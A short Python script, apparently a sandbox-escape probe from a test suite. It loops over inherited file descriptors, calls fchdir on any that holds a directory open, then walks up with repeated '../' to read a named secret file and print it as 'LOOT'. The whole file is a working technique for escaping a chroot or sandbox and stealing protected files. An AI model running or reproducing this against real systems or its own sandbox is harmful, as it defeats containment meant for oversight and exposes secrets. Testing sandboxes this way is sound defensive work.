# Walks out through any folder that an inherited descriptor still holds open.
# ends: raised, none of my descriptors is a way out
import json
import os
import sys

about = json.load(sys.stdin)
for number in range(1024):
    try:
        os.fchdir(number)
    except OSError:
        continue
    for way in (about["secret_file"], "../" * 40 + about["secret_file"].lstrip("/")):
        if os.path.exists(way):
            print("LOOT", open(way).read())
raise RuntimeError("none of my descriptors is a way out")
